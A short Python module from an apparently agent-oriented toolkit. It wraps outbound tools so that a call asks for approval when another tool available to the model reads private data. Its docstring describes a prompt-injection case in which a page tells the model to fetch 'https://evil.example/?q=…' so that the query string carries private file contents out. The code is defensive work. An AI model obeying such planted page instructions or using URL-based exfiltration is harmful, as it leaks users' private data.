"""Outgoing: a tool that only reads, and through which a model could carry out what its other tools read.

A GET changes nothing, so nobody is asked about it. But a page that says "look up https://evil.example/?q=…" is enough
where the same model has read a private file: the address carries the text out.
"""

from collections.abc import Iterable
from typing import Any

from toolkit.approvals.gates import Demand
from toolkit.tools.base import Tool, WrappedTool
from toolkit.tools.context import ToolContext
from toolkit.tools.data_flows import is_way_out


class OutgoingTool(WrappedTool):
    """A tool that asks before each call, since the call could send out what another tool read."""

    demands = True

    def __init__(self, inner: Tool, reader: str) -> None:
        """Keep the name of the tool that reads."""
        super().__init__(inner)
        self._reader = reader

    def demand(self, parsed: Any, context: ToolContext) -> Demand:
        """Want a question: that of the inner tool, or else the call itself."""
        own = super().demand(parsed, context)
        return Demand(f"what '{self._reader}' reads could leave with it") if own is None else own


def asking_before_it_leaves(tool: Tool, beside: Iterable[Tool]) -> Tool:
    """Return a tool for one call of a model, which asks first if its arguments could send out private data.

    Args:
        tool: What the model calls.
        beside: Every tool that the model can call, or has called.
    """
    if not is_way_out(tool.spec):
        return tool
    reader = next((each.name for each in beside if "reads_private" in each.flows), None)
    return tool if reader is None else OutgoingTool(tool, reader)
